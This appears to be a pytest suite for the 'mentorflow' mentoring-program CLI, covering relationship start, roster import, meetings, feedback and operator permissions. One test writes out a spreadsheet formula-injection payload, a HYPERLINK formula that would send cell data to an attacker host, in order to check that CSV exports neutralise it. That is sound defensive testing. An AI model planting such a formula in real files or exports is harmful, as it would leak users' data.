"""The operator's command line, driven as a person at a terminal would, on the real dev server."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sys
import uuid
from collections.abc import Awaitable, Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import structlog
import yaml
from typer.testing import CliRunner, Result

from cli import connection
from cli.app import app, register_all
from tests.lifecycle import Lifecycle

register_all()

OPERATOR_ENV = {
    "MENTORFLOW_OPERATOR_ID": "olga",
    "MENTORFLOW_OPERATOR_NAME": "Olga Operator",
    "MENTORFLOW_OPERATOR_EMAIL": "olga@example.org",
}


class Cli:
    """`mentorflow ...` in a thread with its own event loop, as from a shell, beside the worker."""

    def __init__(self, program: str, tmp: Path) -> None:
        self.program = program
        self.tmp = tmp

    async def __call__(self, *args: str) -> Result:
        return await asyncio.to_thread(CliRunner().invoke, app, list(args))

    async def ok(self, *args: str) -> Result:
        result = await self(*args)
        assert result.exit_code == 0, f"{args}: {result.output}"
        return result

    async def json(self, *args: str) -> Any:
        return json.loads((await self.ok(*args, "--json")).stdout)

    async def refused(self, *args: str) -> str:
        """The one line a refused command prints, after checking it exited non-zero."""
        result = await self(*args)
        assert result.exit_code != 0, f"{args} should have been refused: {result.output}"
        lines = result.stderr.strip().splitlines()
        assert lines, result.output
        return lines[-1]

    def file(self, name: str, body: Any) -> str:
        path = self.tmp / name
        text = json.dumps(body) if name.endswith(".json") else yaml.safe_dump(body)
        path.write_text(text)
        return str(path)

    async def start(self, mentor: str, mentee: str, *extra: str) -> str:
        started = await self.json(
            "start",
            *("--program", self.program),
            *("--mentor-id", mentor, "--mentor-name", mentor.title()),
            *("--mentor-email", f"{mentor}@example.org"),
            *("--mentee-id", mentee, "--mentee-name", mentee.title()),
            *("--mentee-email", f"{mentee}@example.org"),
            *extra,
        )
        assert started["created"] is True
        relationship_id: str = started["relationship_id"]
        return relationship_id


def point_cli_at(monkeypatch: pytest.MonkeyPatch, life: Lifecycle) -> None:
    """Aim every CLI call at this test's server, worker task queue and ledger."""
    monkeypatch.setenv("TEMPORAL_ADDRESS", life.env.client.service_client.config.target_host)
    monkeypatch.setenv("TEMPORAL_NAMESPACE", life.env.client.namespace)
    monkeypatch.setenv("MENTORFLOW_TASK_QUEUE", life.settings.task_queue)
    monkeypatch.setenv("MENTORFLOW_DATA_DIR", str(life.settings.data_dir))
    monkeypatch.setenv("MENTORFLOW_LEDGER_URL", life.settings.resolved_ledger_url)
    for name, value in OPERATOR_ENV.items():
        monkeypatch.setenv(name, value)
    connection.settings.cache_clear()


@pytest.fixture(autouse=True)
def _logs_off_stdout() -> Iterator[None]:
    """The worker logs from the test's thread while a command's stdout is being captured."""
    saved = structlog.get_config()
    structlog.configure(logger_factory=structlog.PrintLoggerFactory(file=sys.__stderr__))
    yield
    structlog.configure(**saved)
    connection.settings.cache_clear()


@pytest.fixture
def cli(dev_lifecycle: Lifecycle, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Cli:
    point_cli_at(monkeypatch, dev_lifecycle)
    return Cli(f"p-{uuid.uuid4().hex[:8]}", tmp_path)


async def eventually(check: Callable[[], Awaitable[bool]], what: str) -> None:
    """Visibility and real timers lag a little behind; wait for them, not for a fixed time."""
    for _ in range(300):
        if await check():
            return
        await asyncio.sleep(0.1)
    raise AssertionError(f"never happened: {what}")


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat()


async def onboard(cli: Cli, rid: str, lead: timedelta, cadence: str = "biweekly") -> None:
    """Goals, commitment, then both confirm a first meeting `lead` from the confirmation."""
    await cli.ok(
        "goals",
        rid,
        *("--objective", "Lead a design review end to end"),
        *("--objective", "Present to the leadership team"),
        *("--challenge", "Nervous in large meetings"),
        *("--proposed-cadence", cadence, "--proposed-format", "virtual"),
    )
    commitment = {
        "capacity_per_month": 6,
        "availability": "Tuesday afternoons",
        "expertise": ["system design"],
        "communication": "email",
    }
    await cli.ok("commitment", rid, "--file", cli.file("commitment.yaml", commitment))
    await cli.ok(
        "confirm",
        rid,
        *("--as", "mentee", "--cadence", cadence, "--format", "virtual"),
        *("--first-meeting", iso(datetime.now(UTC) + lead)),
    )
    confirmed = await cli.json("confirm", rid, "--as", "mentor")
    assert confirmed["phase"] == "active"
    assert "AgreementSigned" in confirmed["events"]


# --------------------------------------------------------------------------- start


async def test_start_from_flags_and_again_starts_nothing_new(
    cli: Cli, dev_lifecycle: Lifecycle
) -> None:
    rid = await cli.start("alice", "bob", "--topic", "public speaking")
    described = await dev_lifecycle.env.client.get_workflow_handle(rid).describe()
    assert await described.static_summary() == f"Alice mentors Bob ({cli.program})"
    assert "- topic: public speaking" in (await described.static_details() or "")
    assert rid == f"{cli.program}.bob.alice"

    again = await cli.ok(
        "start",
        *("--program", cli.program, "--mentor-id", "alice", "--mentor-name", "Alice"),
        *("--mentor-email", "alice@example.org", "--mentee-id", "bob", "--mentee-name", "Bob"),
        *("--mentee-email", "bob@example.org"),
    )
    assert "already exists" in again.stdout

    view = await cli.json("status", rid)
    assert view["phase"] == "onboarding"
    assert view["operator"]["id"] == "olga"
    assert view["waiting_for"][:2] == ["goals", "commitment"]
    table = (await cli.ok("status", rid)).stdout
    assert "onboarding" in table and "public speaking" in table


async def test_start_from_a_file_with_flags_taking_precedence(cli: Cli) -> None:
    end = (datetime.now(UTC) + timedelta(days=90)).date().isoformat()
    body = {
        "program": "ignored-by-the-flag",
        "kind": "situational",
        "mentor": {"id": "carol", "name": "Carol", "email": "carol@example.org"},
        "mentee": {"id": "dan", "name": "Dan", "email": "dan@example.org"},
        "end_date": end,
        "policy": {"feedback_every_meetings": 2},
    }
    started = await cli.json(
        "start", "--file", cli.file("pair.json", body), "--program", cli.program
    )
    view = await cli.json("status", started["relationship_id"])
    assert view["program"] == cli.program
    assert view["kind"] == "situational"
    assert view["state"]["end_date"] == end
    assert view["state"]["policy"]["feedback_every_meetings"] == 2


async def test_start_refuses_bad_input_naming_the_field(cli: Cli) -> None:
    people = (
        *("--program", cli.program, "--mentor-id", "alice", "--mentor-name", "Alice"),
        *("--mentor-email", "alice@example.org", "--mentee-id", "bob", "--mentee-name", "Bob"),
    )
    assert "mentee.email" in await cli.refused("start", *people, "--mentee-email", "bob-at-home")
    past = (datetime.now(UTC) - timedelta(days=3)).date().isoformat()
    line = await cli.refused(
        "start", *people, "--mentee-email", "bob@example.org", "--end-date", past
    )
    assert line.startswith("error: end_date:")
    line = await cli.refused(
        "start", *people, "--mentee-email", "bob@example.org", "--kind", "situational"
    )
    assert "needs an end_date" in line
    bad_yaml = cli.tmp / "broken.yaml"
    bad_yaml.write_text("program: [unclosed\n")
    assert "not valid YAML" in await cli.refused("start", "--file", str(bad_yaml))

    missing = await cli.refused("status", f"{cli.program}.bob.alice")
    assert "no relationship" in missing


# --------------------------------------------------------------------------- import

CSV_HEADER = (
    "program,kind,mentor_id,mentor_name,mentor_email,mentee_id,mentee_name,mentee_email,end_date"
)


async def test_import_reports_every_bad_row_and_starts_none(cli: Cli) -> None:
    past = (datetime.now(UTC) - timedelta(days=1)).date().isoformat()
    rows = [
        CSV_HEADER,
        f"{cli.program},traditional,ann,Ann,ann@example.org,bo,Bo,bo@example.org,",
        f"{cli.program},traditional,cy,Cy,cy@example.org,di,Di,di-at-example,",
        f"{cli.program},reverse,ed,Ed,ed@example.org,fay,Fay,fay@example.org,{past}",
        f"{cli.program},mentoring,gil,,gil@example.org,hal,Hal,hal@example.org,",
        f"{cli.program},traditional,ann,Ann,ann@example.org,bo,Bo,bo@example.org,",
    ]
    roster = cli.tmp / "roster.csv"
    roster.write_text("\n".join(rows) + "\n")

    result = await cli("import", str(roster))
    assert result.exit_code == 1
    problems = result.stderr.strip().splitlines()
    assert problems[0].startswith(f"{roster}:3: mentee_email:")
    assert problems[1].startswith(f"{roster}:4: end_date:")
    assert problems[2].startswith(f"{roster}:5: ")
    assert "kind:" in problems[2] and "mentor_name:" in problems[2]
    assert problems[3].startswith(f"{roster}:6: relationship_id:") and "line 2" in problems[3]
    assert "4 of 5 rows are invalid; nothing was started" in problems[4]
    assert "no relationship" in await cli.refused("status", f"{cli.program}.bo.ann")


async def test_import_dry_run_then_import_twice(cli: Cli) -> None:
    end = (datetime.now(UTC) + timedelta(days=60)).date().isoformat()
    roster = {
        "defaults": {"program": cli.program, "operator": {"id": "olga", "name": "Olga"}},
        "pairs": [
            {
                "mentor_id": "m1",
                "mentor_name": "M One",
                "mentor_email": "m1@example.org",
                "mentee_id": "e1",
                "mentee_name": "E One",
                "mentee_email": "e1@example.org",
            },
            {
                "mentor": {"id": "m2", "name": "M Two", "email": "m2@example.org"},
                "mentee": {"id": "e2", "name": "E Two", "email": "e2@example.org"},
                "kind": "situational",
                "end_date": end,
                "topic": "the Q3 launch",
            },
            {
                "mentor_id": "e1",
                "mentor_name": "E One",
                "mentor_email": "e1@example.org",
                "mentee_id": "m1",
                "mentee_name": "M One",
                "mentee_email": "m1@example.org",
                "kind": "reverse",
            },
        ],
    }
    path = cli.file("roster.yaml", roster)
    ids = [f"{cli.program}.e1.m1", f"{cli.program}.e2.m2", f"{cli.program}.m1.e1"]

    dry = await cli.json("import", path, "--dry-run")
    assert sorted(dry["valid"]) == ids
    assert "no relationship" in await cli.refused("status", ids[0])

    first = await cli.json("import", path)
    assert sorted(first["started"]) == ids and first["existing"] == []
    second = await cli.ok("import", path)
    assert "started 0, 3 already exist: nothing new to start" in second.stdout
    assert (await cli.json("status", ids[1]))["kind"] == "situational"


async def test_a_yaml_roster_reports_the_line_of_each_bad_pair(cli: Cli) -> None:
    path = cli.tmp / "roster.yml"
    path.write_text(
        f"- program: {cli.program}\n"
        "  mentor: {id: a1, name: A, email: a1@example.org}\n"
        "  mentee: {id: b1, name: B, email: b1@example.org}\n"
        f"- program: {cli.program}\n"
        "  mentor: {id: a2, name: A, email: a2@example.org}\n"
        "  mentee: {id: a2, name: B, email: b2@example.org}\n"
    )
    result = await cli("import", str(path), "--dry-run")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"{path}:4: input: mentor and mentee are the same person")


# --------------------------------------------------------------------------- list


async def listed(cli: Cli, *filters: str) -> list[str]:
    rows = await cli.json("list", "--program", cli.program, *filters)
    return sorted(row["relationship_id"] for row in rows)


async def test_list_filters_by_the_search_attributes(cli: Cli, dev_lifecycle: Lifecycle) -> None:
    end = (datetime.now(UTC) + timedelta(days=60)).date().isoformat()
    first = await cli.start("alice", "bob")
    reverse = await cli.start("bob", "carol", "--kind", "reverse")
    situational = await cli.start("alice", "dan", "--kind", "situational", "--end-date", end)
    everyone = sorted([first, reverse, situational])

    async def all_indexed() -> bool:
        return await listed(cli) == everyone

    await eventually(all_indexed, "the three relationships are listed")
    assert await listed(cli, "--kind", "reverse") == [reverse]
    assert await listed(cli, "--mentor", "alice") == sorted([first, situational])
    assert await listed(cli, "--mentee", "dan") == [situational]
    assert await listed(cli, "--healthy") == everyone

    await onboard(cli, first, timedelta(days=7))

    async def first_is_active() -> bool:
        return await listed(cli, "--phase", "active") == [first]

    await eventually(first_is_active, "the onboarded relationship is listed as active")
    rows = await cli.json("list", "--program", cli.program, "--phase", "active")
    assert rows[0]["next_meeting"] is not None and rows[0]["health"] == "ok"
    assert await listed(cli, "--phase", "onboarding") == sorted([reverse, situational])
    shown = (await cli.ok("list", "--program", cli.program)).stdout
    assert "Relationships (3)" in shown
    lines = shown.splitlines()
    assert max(len(line) for line in lines) <= 80, "fits an 80-column terminal"
    for rid in everyone:
        assert any(f"│ {rid} " in line for line in lines), f"{rid} is whole on one line"


async def test_missed_meetings_put_a_pair_on_the_at_risk_list(cli: Cli) -> None:
    """A program day lasts under half a second here, so two meetings go missed in seconds."""
    body = {"policy": {"time_scale": 200_000, "missed_in_a_row_for_risk": 1}}
    rid = await cli.start("eve", "finn", "--file", cli.file("fast.yaml", body))
    await onboard(cli, rid, timedelta(seconds=4), cadence="weekly")

    async def flagged() -> bool:
        return await listed(cli, "--at-risk") == [rid]

    await eventually(flagged, "the silent pair is listed at risk")
    assert await listed(cli, "--healthy") == []
    view = await cli.json("status", rid)
    assert view["at_risk"] is True
    assert any("missed" in reason for reason in view["risk_reasons"])
    assert "AT RISK" in (await cli.ok("status", rid)).stdout

    cancelled = await cli.json("cancel", rid, "--reason", "The pair stopped meeting")
    assert cancelled["phase"] == "concluded"


# --------------------------------------------------------------------------- actions


async def test_participants_act_through_a_whole_relationship(cli: Cli) -> None:
    body = {"policy": {"feedback_every_meetings": 1}}
    rid = await cli.start("alice", "bob", "--file", cli.file("policy.yaml", body))
    await onboard(cli, rid, timedelta(days=3))

    agenda = await cli.json("agenda", rid, "--meeting", "1", "--item", "My last presentation")
    assert agenda["events"] == ["AgendaSubmitted"]
    logged = await cli.json(
        "log-meeting",
        rid,
        *("--as", "mentor", "--notes", "Went through the deck", "--duration", "45"),
        *("--action-item", "Draft the RFC outline", "--win", "Gave the team demo"),
    )
    assert logged["events"][:2] == ["MeetingLogged", "MeetingScheduled"]
    assert "FeedbackRequested" in logged["events"]

    moved = iso(datetime.now(UTC) + timedelta(days=20))
    await cli.ok(
        "reschedule",
        rid,
        "--as",
        "mentee",
        "--meeting",
        "2",
        "--to",
        moved,
        "--reason",
        "Conference week",
    )
    await cli.ok("progress", rid, "--as", "mentee", "--item", "m1-1", "--status", "done")
    await cli.ok(
        "feedback",
        rid,
        *("--as", "mentor", "--loop", "1"),
        *("--strength", "You kept the design review on time and on topic"),
        *("--area", "Interrupting colleagues before they finish => Summarise their point first"),
        *("--due-in-days", "7"),
    )
    await cli.ok(
        "feedback",
        rid,
        "--as",
        "mentee",
        "--loop",
        "1",
        "--helps",
        "Concrete examples from your own reviews help",
    )
    closed = await cli.json("progress", rid, "--as", "mentee", "--item", "f1-1", "--status", "done")
    assert "LoopClosed" in closed["events"]

    view = await cli.json("status", rid)
    assert view["open_action_items"] == [] and view["open_loops"] == []
    assert view["next_meeting"]["number"] == 2 and view["next_meeting"]["scheduled_at"]

    opened = await cli.json("request-review", rid, "--as", "mentee", "--reason", "Goals moved")
    assert opened["phase"] == "under_review"
    await cli.ok(
        "review",
        rid,
        "--as",
        "mentor",
        "--number",
        "1",
        "--effectiveness",
        "4",
        "--progress",
        "o1=3",
        "--decision",
        "continue",
    )
    decided = await cli.json(
        "review",
        rid,
        *("--as", "mentee", "--number", "1", "--effectiveness", "5"),
        *("--decision", "evolve", "--new-cadence", "monthly", "--add-objective", "Mentor a peer"),
    )
    assert "ReviewDecided" in decided["events"]

    async def continued_as_new() -> bool:
        view = await cli.json("status", rid)
        return bool(view["run"] == 2)

    await eventually(continued_as_new, "the relationship continues as new after its review")

    async def listed_once() -> bool:
        return await listed(cli) == [rid]

    await eventually(listed_once, "one relationship listed, not one row per run")
    assert (await cli.json("status", rid))["agreement"]["cadence"]["kind"] == "monthly"

    concluding = await cli.json("conclude", rid, "--as", "mentee", "--reason", "Promoted early")
    assert concluding["phase"] == "concluding"
    await cli.ok("reflect", rid, "--as", "mentor", "--highlight", "The leadership demo")
    done = await cli.json(
        "reflect", rid, "--as", "mentee", "--highlight", "Leading reviews", "--goal-met", "o1"
    )
    assert done["phase"] == "concluded"

    report = await cli.json("report", "--program", cli.program)
    assert report == [
        {
            "program": cli.program,
            "relationships": 1,
            "by_outcome": {
                "completed": 0,
                "concluded_early": 1,
                "not_started": 0,
                "cancelled": 0,
                "in_progress": 0,
            },
            "at_risk_now": 0,
            "ever_at_risk": 0,
            "meetings_held": 1,
            "meetings_missed": 0,
            "loops_closed": 1,
            "average_duration_days": 0.0,
        }
    ]
    table = (await cli.ok("report", "--program", cli.program)).stdout
    assert "Program outcomes" in table and cli.program in table


async def test_the_operator_steers_a_relationship(cli: Cli) -> None:
    end = (datetime.now(UTC) + timedelta(days=120)).date()
    rid = await cli.start("alice", "bob", "--end-date", end.isoformat())
    await onboard(cli, rid, timedelta(days=5))

    assert (await cli.json("pause", rid, "--reason", "Parental leave"))["phase"] == "paused"
    assert (await cli.json("status", rid))["waiting_for"] == ["the operator to resume"]
    assert (await cli.json("resume", rid))["phase"] == "active"
    later = (end + timedelta(days=30)).isoformat()
    assert (await cli.json("extend", rid, "--end-date", later))["events"] == ["EndDateExtended"]
    changed = await cli.json("cadence", rid, "--cadence", "monthly", "--reason", "Busy quarter")
    assert "CadenceChanged" in changed["events"]
    view = await cli.json("status", rid)
    assert view["state"]["end_date"] == later
    assert view["agreement"]["cadence"]["kind"] == "monthly"

    concluding = await cli.json("conclude", rid, "--as", "operator", "--reason", "Team change")
    assert concluding["phase"] == "concluding"
    cancelled = await cli.json("cancel", rid, "--reason", "Both left the company")
    assert cancelled["phase"] == "concluded"
    assert (await cli.json("status", rid))["outcome"] == "cancelled"
    report = await cli.json("report", "--program", cli.program)
    assert report[0]["by_outcome"]["cancelled"] == 1


async def test_refused_actions_print_one_line_naming_the_field(cli: Cli) -> None:
    rid = await cli.start("alice", "bob")
    goal = (
        "--objective",
        "Lead a review",
        "--proposed-cadence",
        "weekly",
        "--proposed-format",
        "virtual",
    )

    line = await cli.refused("goals", rid, "--as", "mentor", *goal)
    assert line.startswith("error: rejected: actor.role: only the mentee")
    line = await cli.refused("goals", rid, "--actor-id", "mallory", *goal)
    assert "actor.id: 'mallory' is not the mentee" in line
    line = await cli.refused("log-meeting", rid, "--as", "mentee")
    assert line.startswith("error: rejected: phase: cannot log a meeting while onboarding")
    line = await cli.refused(
        "goals",
        rid,
        "--objective",
        "  ",
        "--proposed-cadence",
        "weekly",
        "--proposed-format",
        "virtual",
    )
    assert line.startswith("error: --objective: is blank")
    line = await cli.refused("goals", rid, "--objective", "x", "--proposed-cadence", "sometimes")
    assert line.startswith("error: --proposed-cadence: unknown cadence 'sometimes'")
    line = await cli.refused(
        "confirm",
        rid,
        "--as",
        "mentee",
        "--cadence",
        "weekly",
        "--format",
        "virtual",
        "--first-meeting",
        "2030-01-01T10:00",
    )
    assert line.startswith("error: --first-meeting: has no time zone")
    line = await cli.refused(
        "feedback",
        rid,
        "--as",
        "mentor",
        "--loop",
        "1",
        "--strength",
        "Clear agendas every single time",
        "--area",
        "vague",
    )
    assert line.startswith("error: --area: 'vague' has no '=>'")
    line = await cli.refused(
        "commitment",
        rid,
        *("--capacity", "2", "--availability", "afternoons", "--expertise", "design"),
        *("--communication", "email", "--window", "tue 17-14"),
    )
    assert line.startswith("error: --window: the window starts at 17:00 and ends at 14:00")
    line = await cli.refused("pause", f"{cli.program}.nobody.here", "--reason", "x")
    assert f"no relationship '{cli.program}.nobody.here'" in line and "mentorflow list" in line
    assert (await cli.json("status", rid))["state"]["seq"] == 1


async def test_meetings_go_on_the_window_and_status_reads_in_program_time(cli: Cli) -> None:
    rid = await cli.start("alice", "bob", "--time-scale", "1000")
    await cli.ok(
        "goals",
        rid,
        *("--objective", "Lead a design review end to end"),
        *("--proposed-cadence", "weekly", "--proposed-format", "virtual"),
    )
    await cli.ok(
        "commitment",
        rid,
        *("--capacity", "4", "--availability", "Tuesday afternoons", "--expertise", "design"),
        *("--communication", "email", "--window", "tue 14-17 Europe/Berlin"),
    )
    await cli.ok("confirm", rid, "--as", "mentee")
    signed = (await cli.ok("confirm", rid, "--as", "mentor")).stdout.strip()
    assert signed.startswith(
        f"agreement confirmed: {rid} is active; recorded: agreement confirmed, "
        "agreement signed, meeting scheduled"
    ), "said in words, not class names"
    view = await cli.json("status", rid)
    window = view["state"]["commitment"]["window"]
    assert window == {
        "days": ["tuesday"],
        "start": "14:00:00",
        "end": "17:00:00",
        "time_zone": "Europe/Berlin",
    }
    started = datetime.fromisoformat(view["state"]["started_at"])
    meeting = datetime.fromisoformat(view["next_meeting"]["scheduled_at"])
    assert meeting - started < timedelta(minutes=11), "a program week is ten minutes here"

    shown = (await cli.ok("status", rid)).stdout
    assert "program time: time_scale 1000" in shown
    program_day = started + (meeting - started) * 1000
    assert f"#1 at {program_day:%Y-%m-%d %H:%M} UTC" in shown, "program time, like the end date"
    assert f"meeting 1 on {program_day:%Y-%m-%d %H:%M} UTC" in shown


async def test_a_formula_typed_into_a_meeting_note_is_text_in_every_csv_export(cli: Cli) -> None:
    rid = await cli.start("alice", "bob", "--mentor-name", "=1+2 Alice")
    await onboard(cli, rid, timedelta(days=3))
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    await cli.ok(
        "log-meeting",
        rid,
        *("--as", "mentor", "--notes", formula, "--duration", "45"),
        *("--win", "+1 promotion", "--action-item", "@SUM(1+1)"),
    )
    exported = (await cli.ok("audit", "export", "--program", cli.program, "--format", "csv")).stdout
    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    logged = next(json.loads(c) for c in cells if '"MeetingLogged"' in c)
    assert logged["notes"] == formula, "inside the JSON cell the note is exact"

    as_of = await cli.ok("history", rid, "--as-of", iso(datetime.now(UTC)), "--format", "csv")
    fields = dict(csv.reader(io.StringIO(as_of.stdout)))
    assert fields["mentor"] == "'=1+2 Alice", "a name typed as a formula stays text"
    assert not [c for c in fields.values() if c.startswith(("=", "+", "-", "@"))]

    jsonl = (await cli.ok("audit", "export", "--program", cli.program)).stdout
    notes = [json.loads(line)["event"].get("notes") for line in jsonl.splitlines()]
    assert formula in notes, "JSON exports stay exact"


async def test_every_command_explains_itself() -> None:
    wanted = {
        "up",
        "worker",
        "start",
        "import",
        "list",
        "status",
        "goals",
        "commitment",
        "confirm",
        "agenda",
        "log-meeting",
        "reschedule",
        "progress",
        "feedback",
        "review",
        "request-review",
        "conclude",
        "reflect",
        "pause",
        "resume",
        "extend",
        "cadence",
        "cancel",
        "report",
        "demo",
    }
    for name in sorted(wanted):
        result = CliRunner().invoke(app, [name, "--help"])
        assert result.exit_code == 0, result.output
        assert "Usage:" in result.output


async def test_only_the_programs_operators_act_on_its_relationships(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    rid = await cli.start("alice", "bob")  # olga starts the program: its first operator
    seq = (await cli.json("status", rid))["state"]["seq"]

    monkeypatch.setenv("MENTORFLOW_OPERATOR_ID", "mallory")
    for args in (["pause", rid, "--reason", "x"], ["cancel", rid, "--reason", "x"]):
        line = await cli.refused(*args)
        assert f"operator 'mallory' is not on the roster of program '{cli.program}'" in line
        assert "its operators: olga" in line and "mentorflow operators add" in line
    assert "not on the roster" in await cli.refused(
        "operators", "add", cli.program, "--id", "mallory", "--name", "M", "--email", "m@x.org"
    )
    monkeypatch.setenv("MENTORFLOW_OPERATOR_NAME", "Mallory")
    monkeypatch.setenv("MENTORFLOW_OPERATOR_EMAIL", "mallory@example.org")
    assert "not on the roster" in await cli.refused(
        "start",
        *("--program", cli.program, "--mentor-id", "carol", "--mentor-name", "Carol"),
        *("--mentor-email", "carol@example.org", "--mentee-id", "dan", "--mentee-name", "Dan"),
        *("--mentee-email", "dan@example.org"),
    )
    assert (await cli.json("status", rid))["state"]["seq"] == seq, "nothing was applied"

    monkeypatch.setenv("MENTORFLOW_OPERATOR_ID", "olga")
    await cli.ok(
        "operators",
        "add",
        cli.program,
        *("--id", "oscar", "--name", "Oscar Operator", "--email", "Oscar@Example.org"),
    )
    listed = await cli.json("operators", "list", cli.program)
    assert [(o["operator_id"], o["email"], o["added_by"]) for o in listed][1] == (
        "oscar",
        "oscar@example.org",
        "olga",
    )
    monkeypatch.setenv("MENTORFLOW_OPERATOR_ID", "oscar")
    assert (await cli.json("pause", rid, "--reason", "Leave"))["phase"] == "paused"


async def test_an_operator_taken_off_the_roster_acts_no_more(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    rid = await cli.start("alice", "bob")  # olga: the program's first operator
    monkeypatch.setenv("MENTORFLOW_OPERATOR_ID", "olga")
    last = await cli.refused("operators", "remove", cli.program, "--id", "olga")
    assert last == (
        f"error: --id: olga is the last operator of program '{cli.program}'; add another "
        "operator first (a program with none is taken by whoever starts its next relationship)"
    )
    await cli.ok(
        "operators",
        "add",
        cli.program,
        *("--id", "oscar", "--name", "Oscar Operator", "--email", "oscar@example.org"),
    )
    removed = await cli.ok("operators", "remove", cli.program, "--id", "oscar")
    assert removed.stdout.strip() == f"oscar removed from the roster of {cli.program}"
    assert "--id: oscar is not on the roster" in await cli.refused(
        "operators", "remove", cli.program, "--id", "oscar"
    )
    assert [o["operator_id"] for o in await cli.json("operators", "list", cli.program)] == ["olga"]
    monkeypatch.setenv("MENTORFLOW_OPERATOR_ID", "oscar")
    assert "not on the roster" in await cli.refused("pause", rid, "--reason", "Leave")
    assert "not on the roster" in await cli.refused(
        "operators", "remove", cli.program, "--id", "olga"
    )


async def test_a_roster_row_whose_operator_does_not_run_the_program_starts_nothing(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    rid = await cli.start("alice", "bob")

    async def recorded() -> bool:  # `list` reads the ledger, written just after the start
        return [r["relationship_id"] for r in await cli.json("list", "--program", cli.program)] == [
            rid
        ]

    await eventually(recorded, "the first relationship in the ledger")
    roster = cli.file(
        "roster.yaml",
        [
            {
                "program": cli.program,
                **{f"mentor_{k}": v for k, v in (("id", "carol"), ("name", "Carol"))},
                "mentor_email": "carol@example.org",
                **{f"mentee_{k}": v for k, v in (("id", "dan"), ("name", "Dan"))},
                "mentee_email": "dan@example.org",
                "operator_id": "mallory",
                "operator_name": "Mallory",
                "operator_email": "mallory@example.org",
            }
        ],
    )
    result = await cli("import", roster)
    assert result.exit_code != 0
    assert "roster.yaml:1: operator_id: operator 'mallory' is not on the roster" in result.stderr
    assert "nothing was started" in result.stderr
    assert await recorded(), "the import started nothing"


async def test_a_participant_action_typed_at_the_cli_is_recorded_as_entered_by_the_operator(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    rid = await cli.start("alice", "bob")
    goals = (
        "goals",
        rid,
        *("--objective", "Lead a design review end to end"),
        *("--proposed-cadence", "biweekly", "--proposed-format", "virtual"),
    )
    monkeypatch.delenv("MENTORFLOW_OPERATOR_ID")
    line = await cli.refused(*goals)
    assert line.startswith("error: MENTORFLOW_OPERATOR_ID: a mentee's action typed here")
    monkeypatch.setenv("MENTORFLOW_OPERATOR_ID", "mallory")
    assert "not on the roster" in await cli.refused(*goals)

    monkeypatch.setenv("MENTORFLOW_OPERATOR_ID", "olga")
    await cli.ok(*goals)
    history = await cli.json("history", rid)
    entered = next(e for e in history["events"] if e["type"] == "GoalsSubmitted")
    assert entered["actor"] == "mentee:bob via operator:olga"
    assert "entered by operator Olga Operator" in entered["sentence"]
